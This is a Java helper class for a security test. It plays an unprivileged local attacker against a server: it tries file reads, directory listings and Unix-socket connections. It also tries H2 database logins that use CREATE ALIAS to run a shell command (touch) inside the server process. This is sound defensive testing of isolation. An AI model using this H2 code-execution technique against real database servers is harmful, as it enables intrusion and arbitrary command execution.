package hangar.server;

import java.net.UnixDomainSocketAddress;
import java.nio.channels.SocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

/**
 * What {@link LocalAttackerTest} runs as an unprivileged local user, in a JVM of its own with only
 * this class and the H2 driver: each argument is one attempt, and one line is printed for each,
 * {@code ALLOWED <attempt> <what it got>} or {@code DENIED <attempt> <why>}. Not a test.
 *
 * <p>Attempts: {@code read:PATH}, {@code list:PATH}, {@code unix:SOCKET}, and {@code
 * h2:URL<TAB>USER<TAB>PASSWORD<TAB>MARKER}, which logs in to an H2 server and, if it gets in,
 * defines a Java function with {@code CREATE ALIAS} that runs {@code touch MARKER} in the server's
 * process.
 */
public final class AttackProbe {
  private static final long H2_PATIENCE_SECONDS = 20;

  private AttackProbe() {}

  /** Runs every attempt in turn. */
  public static void main(String[] args) {
    ExecutorService h2 =
        Executors.newCachedThreadPool(r -> Thread.ofPlatform().daemon().unstarted(r));
    for (String attempt : args) {
      String kind = attempt.substring(0, attempt.indexOf(':'));
      String what = attempt.substring(kind.length() + 1);
      String shown = attempt.replace('\t', ' ');
      try {
        String got =
            switch (kind) {
              case "read" -> "read " + Files.readAllBytes(Path.of(what)).length + " bytes";
              case "list" -> {
                try (Stream<Path> names = Files.list(Path.of(what))) {
                  yield "listed " + names.count() + " names";
                }
              }
              case "unix" -> {
                try (SocketChannel channel = SocketChannel.open(UnixDomainSocketAddress.of(what))) {
                  yield "connected";
                }
              }
              case "h2" -> {
                Future<String> run = h2.submit(() -> exploit(what.split("\t", -1)));
                yield run.get(H2_PATIENCE_SECONDS, TimeUnit.SECONDS);
              }
              default -> throw new IllegalArgumentException("no attempt of kind " + kind);
            };
        System.out.println("ALLOWED " + shown + " " + got);
      } catch (Exception e) {
        // The point of the probe: every refusal is an answer, printed for the test to read.
        System.out.println("DENIED " + shown + " " + e.toString().replace('\n', ' '));
      }
    }
    System.out.flush();
    h2.shutdownNow();
  }

  private static String exploit(String[] login) throws Exception {
    try (Connection connection = DriverManager.getConnection(login[0], login[1], login[2]);
        Statement statement = connection.createStatement()) {
      statement.execute(
          "CREATE ALIAS IF NOT EXISTS PROBE_TOUCH AS 'String touch(String file) throws"
              + " Exception { new ProcessBuilder(\"touch\", file).start().waitFor(); return file; }'");
      statement.execute("CALL PROBE_TOUCH('" + login[3] + "')");
      return "ran touch " + login[3] + " in the server";
    }
  }
}
